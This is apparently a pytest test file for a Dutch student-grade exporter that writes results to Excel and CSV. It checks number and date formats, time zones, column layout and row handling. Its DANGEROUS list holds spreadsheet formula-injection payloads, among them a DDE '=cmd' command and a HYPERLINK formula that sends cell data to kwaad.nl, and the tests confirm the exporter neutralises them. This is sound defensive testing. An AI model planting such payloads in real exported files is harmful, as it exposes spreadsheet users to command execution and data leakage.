"""Results as files: read back as Excel, LibreOffice and a Dutch or English spreadsheet would read them."""

from __future__ import annotations

import csv
import time
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ssfh_learn.reports.export import write_results
from ssfh_learn.results import ItemResult, Result
from ssfh_learn.words import section, word

ANNA = Result(
    assignment="werkdruk-toets",
    student="anna",
    first_name="Anna",
    last_name="Vries, de",
    points=4.5,
    penalty=0.5,
    maximum=6,
    pass_mark=70,
    status="awaiting_grader",
    attempt=1,
    attempts=2,
    submitted_at=datetime(2026, 7, 15, 13, 0, 7, 123456),  # noqa: DTZ001  (as nbgrader keeps it: UTC without a zone)
    content="0a1b2c3d",
    receipt="9f86d081884c7d65",
    previous=(3.0, 2.5),
    items=(ItemResult("vraag-01", "w3", 0.3333333, 1, "complete"), ItemResult("open-o", "o", None, 2, "complete")),
)
AWAY = Result(assignment="werkdruk-toets", student="bram", maximum=6, pass_mark=70)
NAMES = [
    "Vries, de",
    "'t Hart",
    "D'Or; Ilse",
    'Ann "de" Bos',
    "Zoë 😀 Yıldız",
    "twee\nregels",
    "twee\r\nregels",
    "  voor en na  ",
    "漢字",
    "0031",
    "1-2",
    "NaN",
    "NULL",
    "http://kwaad.nl",
    "mailto:anna@kwaad.nl",
    "",
]
DANGEROUS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@x",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("http://kwaad.nl?"&A1,"klik")',
    "Bos, =1+1",
    "Bos;=1+1",
    "Bos\t@x",
]
TITLES = [title for name, title in section("export").items() if name.startswith("column_")]


def title(name: str) -> str:
    return word("export", f"column_{name}")


def sheets(path: Path) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Return the rows of both sheets of a file, by title."""
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [word("export", "sheet_results"), word("export", "sheet_questions")]
    tables = [[[cell.value for cell in row] for row in book[name].iter_rows()] for name in book.sheetnames]
    first, second = ([dict(zip(table[0], row, strict=True)) for row in table[1:]] for table in tables)
    return first, second


def in_excel(path: Path, *results: Result) -> list[dict[str, Any]]:
    """Write results as Excel, and return the rows of the first sheet."""
    write_results(results, path / "cijfers.xlsx")
    return sheets(path / "cijfers.xlsx")[0]


def in_csv(path: Path, *results: Result) -> list[dict[str, str]]:
    """Write results as CSV, and return the rows."""
    write_results(results, path / "cijfers.csv")
    with (path / "cijfers.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, delimiter=";", strict=True))


@pytest.fixture(autouse=True)
def elsewhere(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Sit behind a computer that stands in another zone: a file for a Dutch reader has Dutch times all the same."""
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


# Excel


@pytest.mark.parametrize("name", [name for name in (*NAMES, *DANGEROUS) if name])
def test_in_excel_a_name_is_the_text_that_it_is(tmp_path: Path, name: str) -> None:
    write_results([replace(ANNA, last_name=name)], tmp_path / "cijfers.xlsx")

    sheet = openpyxl.load_workbook(tmp_path / "cijfers.xlsx").worksheets[0]
    cell = sheet.cell(2, TITLES.index(title("last_name")) + 1)
    assert cell.data_type == "s"
    assert str(cell.value).replace("_x000D_", "\r").replace("\r\n", "\n") == name.replace("\r\n", "\n")
    assert cell.hyperlink is None


def test_in_excel_numbers_are_numbers_and_a_date_is_a_date_in_dutch_time(tmp_path: Path) -> None:
    (row,) = in_excel(tmp_path, ANNA)

    values = {name: row[title(name)] for name in ("points", "penalty", "total", "maximum", "percent", "attempt")}
    assert values == {"points": 4.5, "penalty": 0.5, "total": 4, "maximum": 6, "percent": 66, "attempt": 1}
    assert row[title("submitted_at")] == datetime(2026, 7, 15, 15, 0, 7)  # noqa: DTZ001  (Excel knows no zones)
    assert row[title("receipt")] == "9F86-D081"
    assert row[title("previous")] == "3; 2,5"
    assert row[title("status")] == "Wacht op beoordeling"


def test_a_time_with_a_zone_is_the_same_moment(tmp_path: Path) -> None:
    moment = datetime(2026, 1, 15, 13, 0, tzinfo=UTC)

    (row,) = in_excel(tmp_path, replace(ANNA, submitted_at=moment))

    assert row[title("submitted_at")] == datetime(2026, 1, 15, 14, 0)  # noqa: DTZ001


def test_in_excel_the_titles_stay_in_sight_and_can_be_filtered_and_nothing_is_cut_off(tmp_path: Path) -> None:
    write_results([ANNA, AWAY], tmp_path / "cijfers.xlsx")

    sheet = openpyxl.load_workbook(tmp_path / "cijfers.xlsx").worksheets[0]
    assert [cell.value for cell in sheet[1]] == TITLES
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:R3"
    date = openpyxl.utils.get_column_letter(TITLES.index(title("submitted_at")) + 1)
    assert sheet[f"{date}2"].number_format == "dd-mm-yyyy hh:mm"
    widths = [sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width for i in range(1, 19)]
    assert [w for w, words in zip(widths, TITLES, strict=True) if w < len(words)] == []


def test_a_very_long_name_makes_no_column_wider_than_a_screen(tmp_path: Path) -> None:
    write_results([replace(ANNA, last_name="x" * 1000)], tmp_path / "cijfers.xlsx")

    sheet = openpyxl.load_workbook(tmp_path / "cijfers.xlsx").worksheets[0]
    assert max(one.width for one in sheet.column_dimensions.values()) < 50


def test_the_second_sheet_has_a_row_for_each_question_and_none_for_who_handed_in_nothing(tmp_path: Path) -> None:
    write_results([ANNA, AWAY], tmp_path / "cijfers.xlsx")

    assert [tuple(row.values()) for row in sheets(tmp_path / "cijfers.xlsx")[1]] == [
        ("werkdruk-toets", "anna", "w3", 0.3333333, 1),
        ("werkdruk-toets", "anna", "o", None, 2),
    ]


# CSV


@pytest.mark.parametrize("name", NAMES)
def test_in_csv_a_name_stays_in_its_column(tmp_path: Path, name: str) -> None:
    (row,) = in_csv(tmp_path, replace(ANNA, last_name=name))

    assert row[title("last_name")] == name
    assert row[title("first_name")] == "Anna"


@pytest.mark.parametrize("name", DANGEROUS)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_in_csv_no_cell_starts_as_a_formula_whatever_separates_the_cells(
    tmp_path: Path, name: str, separator: str
) -> None:
    write_results([replace(ANNA, last_name=name, student=name, first_name=name)], tmp_path / "cijfers.csv")

    text = (tmp_path / "cijfers.csv").read_text("utf-8-sig")
    cells = [cell for row in csv.reader(text.splitlines(keepends=True), delimiter=separator) for cell in row]
    formulas = [cell for cell in cells if cell.strip().startswith(("=", "+", "-", "@", "＝"))]
    assert formulas == []


def test_in_csv_a_dangerous_name_can_still_be_read(tmp_path: Path) -> None:
    (row,) = in_csv(tmp_path, replace(ANNA, last_name="=cmd|' /C calc'!A0", first_name="-"))

    assert (row[title("last_name")], row[title("first_name")]) == ("'=cmd|' /C calc'!A0", "'-")


def test_in_csv_figures_and_dates_are_written_as_a_dutch_excel_reads_them(tmp_path: Path) -> None:
    (row,) = in_csv(tmp_path, replace(ANNA, points=1 / 3))

    assert row[title("points")] == "0,3333"
    assert row[title("penalty")] == "0,5"
    assert (row[title("percent")], row[title("attempt")], row[title("attempts")]) == ("-2", "1", "2")
    assert row[title("submitted_at")] == "15-07-2026 15:00"


def test_a_csv_starts_with_the_mark_by_which_excel_knows_utf_8_and_has_the_line_ends_of_windows(tmp_path: Path) -> None:
    in_csv(tmp_path, ANNA, AWAY)

    written = (tmp_path / "cijfers.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbf" + TITLES[0].encode() + b";")
    assert written.count(b"\r\n") == written.count(b"\n") == 3


# Rows


@pytest.mark.parametrize("write", [in_excel, in_csv])
def test_who_handed_in_nothing_has_a_row_without_points_and_leaves_the_figures_of_others_whole(
    tmp_path: Path, write: Any
) -> None:
    anna, bram = write(tmp_path, ANNA, AWAY)

    empty = ("points", "penalty", "total", "percent", "passed", "attempt", "submitted_at", "late", "receipt", "content")
    assert bram[title("status")] == "Niet ingeleverd"
    assert [bram[title(name)] or None for name in empty] == [None] * len(empty)
    assert str(bram[title("attempts")]) == "0"
    assert (str(anna[title("percent")]), str(anna[title("attempt")])) == ("66", "1")


@pytest.mark.parametrize("write", [in_excel, in_csv])
def test_two_tests_in_one_file_keep_their_order(tmp_path: Path, write: Any) -> None:
    rows = write(tmp_path, ANNA, AWAY, replace(ANNA, assignment="agressie-toets"))

    assert [(row[title("assignment")], row[title("student")]) for row in rows] == [
        ("werkdruk-toets", "anna"),
        ("werkdruk-toets", "bram"),
        ("agressie-toets", "anna"),
    ]


@pytest.mark.parametrize("write", [in_excel, in_csv])
def test_nobody_at_all_is_a_file_with_titles(tmp_path: Path, write: Any) -> None:
    assert write(tmp_path) == []


@pytest.mark.parametrize(
    ("points", "status", "passed"),
    [(4.5, "complete", "ja"), (2, "complete", "nee"), (2, "awaiting_grader", ""), (0.5, "awaiting_grader", "")],
)
def test_passed_is_yes_no_or_empty_while_a_person_can_still_decide_it(
    tmp_path: Path, points: float, status: str, passed: str
) -> None:
    items = (ItemResult("open-o", "o", None if status == "awaiting_grader" else 0.0, 6, status),)

    (row,) = in_csv(tmp_path, replace(ANNA, points=points, penalty=0, status=status, items=items))

    assert row[title("passed")] == passed


# Writing


@pytest.mark.parametrize("name", ["cijfers.csv", "cijfers.xlsx", "CIJFERS.CSV"])
def test_an_older_file_is_replaced_as_a_whole(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"x" * 100_000)

    write_results([ANNA], tmp_path / name)

    assert [path.name for path in tmp_path.iterdir()] == [name]
    assert (tmp_path / name).stat().st_size < 20_000


@pytest.mark.parametrize("name", ["weg/cijfers.csv", "weg/cijfers.xlsx"])
def test_a_folder_that_is_not_there_is_named(tmp_path: Path, name: str) -> None:
    with pytest.raises(OSError, match="cijfers") as raised:
        write_results([ANNA], tmp_path / name)

    assert raised.value.filename == str(tmp_path / name)
